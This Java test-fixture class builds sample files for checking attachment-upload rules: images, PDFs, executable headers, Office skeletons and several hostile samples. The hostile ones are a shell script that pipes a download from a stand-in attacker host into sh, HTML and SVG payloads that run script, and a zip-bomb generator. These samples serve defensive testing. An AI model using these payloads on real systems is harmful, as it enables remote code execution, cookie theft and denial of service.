package com.memberpulse.support.attachment;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

/** Small real files of each kind the attachment rules care about. */
public final class SampleFiles {

    private SampleFiles() {
    }

    /** A real 2x2 PNG image. */
    public static byte[] png() {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            ImageIO.write(new BufferedImage(2, 2, BufferedImage.TYPE_INT_RGB), "png", out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] pdf() {
        return ascii("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
    }

    public static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** The start of a Windows program: DOS header, PE signature. */
    public static byte[] windowsExecutable() {
        byte[] program = new byte[256];
        program[0] = 'M';
        program[1] = 'Z';
        program[0x3C] = (byte) 0x80;
        System.arraycopy(ascii("PE\0\0"), 0, program, 0x80, 4);
        return program;
    }

    /** The start of a Linux program. */
    public static byte[] elfExecutable() {
        byte[] program = new byte[64];
        System.arraycopy(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1}, 0, program, 0, 7);
        return program;
    }

    public static byte[] shellScript() {
        return ascii("#!/bin/sh\ncurl http://evil.example/x | sh\n");
    }

    public static byte[] html() {
        return ascii("<html><body><script>alert(document.cookie)</script></body></html>");
    }

    public static byte[] svgWithScript() {
        return ascii("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>");
    }

    /** A Word document's skeleton: the parts that make a zip a .docx, plus {@code extra} entries. */
    public static byte[] docx(Map<String, byte[]> extra) {
        return zip(officeSkeleton("word/document.xml", "<w:document/>", extra));
    }

    /** An Excel workbook's skeleton, plus {@code extra} entries. */
    public static byte[] xlsx(Map<String, byte[]> extra) {
        return zip(officeSkeleton("xl/workbook.xml", "<workbook/>", extra));
    }

    /**
     * A zip bomb: a Word document with {@code entries} more parts of {@code bytesEach} zeros each, packed about
     * 1000 to 1 and written a buffer at a time, so that building it holds no more than the packed bytes.
     */
    public static byte[] docxOfZeros(int entries, long bytesEach) {
        byte[] zeros = new byte[64 * 1024];
        return zip(zip -> {
            zip.setLevel(Deflater.BEST_COMPRESSION);
            write(zip, officeSkeleton("word/document.xml", "<w:document/>", Map.of()));
            for (int i = 0; i < entries; i++) {
                zip.putNextEntry(new ZipEntry("word/media/padding" + i + ".bin"));
                for (long left = bytesEach; left > 0; left -= zeros.length) {
                    zip.write(zeros, 0, (int) Math.min(zeros.length, left));
                }
                zip.closeEntry();
            }
        });
    }

    public static byte[] zip(Map<String, byte[]> entries) {
        return zip(zip -> write(zip, entries));
    }

    private static Map<String, byte[]> officeSkeleton(String mainPart, String mainXml, Map<String, byte[]> extra) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("[Content_Types].xml", ascii("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"));
        entries.put("_rels/.rels", ascii("<?xml version=\"1.0\"?><Relationships/>"));
        entries.put(mainPart, ascii("<?xml version=\"1.0\"?>" + mainXml));
        entries.putAll(extra);
        return entries;
    }

    private static void write(ZipOutputStream zip, Map<String, byte[]> entries) throws IOException {
        for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
            zip.putNextEntry(new ZipEntry(entry.getKey()));
            zip.write(entry.getValue());
            zip.closeEntry();
        }
    }

    private static byte[] zip(ZipWriter writer) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            writer.write(zip);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private interface ZipWriter {
        void write(ZipOutputStream zip) throws IOException;
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
